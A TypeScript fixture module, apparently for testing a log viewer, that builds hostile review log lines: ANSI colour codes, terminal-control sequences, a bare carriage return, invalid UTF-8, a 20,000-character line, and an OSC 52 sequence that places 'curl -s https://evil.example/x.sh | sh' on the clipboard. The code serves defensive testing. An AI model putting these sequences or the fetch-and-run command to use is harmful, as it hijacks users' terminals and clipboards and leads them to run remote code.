// Lines no terminal should render as they are: the demo's "reviews" service logs user-written
// review text raw, and users write escape sequences. CloudWatch stores them as given (invalid UTF-8
// arrives as U+FFFD), so a log viewer has to make them inert. Each kind comes back regularly.

const ESC = "\u001b";
const BEL = "\u0007";

/** Total length of the very long line, in characters. */
export const LONG_LINE_LENGTH = 20_000;

export type HostileKind =
  "ansi-colour" | "osc52-clipboard" | "carriage-return" | "invalid-utf8" | "long-line" | "terminal-control";

export const HOSTILE_KINDS: readonly HostileKind[] = [
  "ansi-colour",
  "osc52-clipboard",
  "carriage-return",
  "invalid-utf8",
  "long-line",
  "terminal-control",
];

export function hostileLine(kind: HostileKind, reviewId: number): string {
  const prefix = `review ${reviewId} body: `;
  switch (kind) {
    case "ansi-colour":
      return `${prefix}${ESC}[1;31mFIVE STARS${ESC}[0m best ${ESC}[32mgreen${ESC}[0m tea ${ESC}[5;7mever${ESC}[0m`;
    case "osc52-clipboard":
      // Asks the terminal to put "curl -s https://evil.example/x.sh | sh" on the clipboard.
      return `${prefix}nice mug ${ESC}]52;c;${Buffer.from("curl -s https://evil.example/x.sh | sh").toString("base64")}${BEL}`;
    case "carriage-return":
      return `${prefix}totally harmless review\rOVERWRITTEN: the start of this line was hidden by a bare carriage return`;
    case "invalid-utf8":
      // Bytes C3 28 and a lone FF: not UTF-8, so CloudWatch stored replacement characters.
      return `${prefix}caf\uFFFD( na\uFFFDve \uFFFD\uFFFD\uFFFD`;
    case "long-line": {
      const filler = "lorem ipsum dolor sit amet ";
      const body = filler.repeat(Math.ceil(LONG_LINE_LENGTH / filler.length));
      return `${prefix}${body}`.slice(0, LONG_LINE_LENGTH - 4) + " END";
    }
    case "terminal-control":
      return `${prefix}${ESC}[2J${ESC}[H${ESC}]0;pwned${BEL}${ESC}P+q544e${ESC}\\ back\b\b\b\bXXXX \u009b31mC1 CSI\u009b0m`;
  }
}

/** The kind of hostile line the service writes in second `bucket`, if any (one every 20 s). */
export function hostileKindAt(bucket: number): HostileKind | undefined {
  if (((bucket % 20) + 20) % 20 !== 3) return undefined;
  return HOSTILE_KINDS[Math.floor(bucket / 20) % HOSTILE_KINDS.length];
}
